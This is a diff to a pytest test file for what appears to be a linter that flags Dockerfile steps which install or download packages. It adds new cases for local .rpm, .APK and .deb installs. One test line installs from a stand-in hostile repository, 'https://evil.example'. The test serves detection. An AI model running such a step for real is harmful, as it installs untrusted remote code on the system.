@@ -79,6 +79,7 @@ def run_script(name: str, arguments: list[str], monkeypatch: pytest.MonkeyPatch)
         "composer install --no-scripts --no-plugins --no-dev",
         "apt-get update && apt-get install -y --no-install-recommends g++=4:12.2.0 && rm -rf /var/lib/apt/lists/*",
         "apk add --no-cache curl libstdc++",
+        "apk add rpm apk-tools.doc debian-keyring deb.x",
         "dnf install -y openssl && dnf clean all",
         DOWNLOAD,
         DOWNLOAD.replace("example.com", "files.example.com"),
@@ -300,6 +301,9 @@ RUN make
         ("RUN cargo +nightly install x", 2, "cargo install can install or download"),
         ("RUN uv --quiet run x", 2, "uv can install or download"),
         ("RUN go -C d get x@latest", 2, "go install or get can install or download"),
+        ("RUN dnf install -y x.rpm", 2, "a package manager can install or download"),
+        ("RUN apk add x-1.0.APK curl", 2, "a package manager can install or download"),
+        ("RUN apt-get install -y curl x.deb", 2, "a package manager can install or download"),
         ("RUN apt-get install -y ./x.deb", 2, "a package manager can install or download"),
         ("RUN apk add --repository https://evil.example x", 2, "a package manager can install or download"),
         (
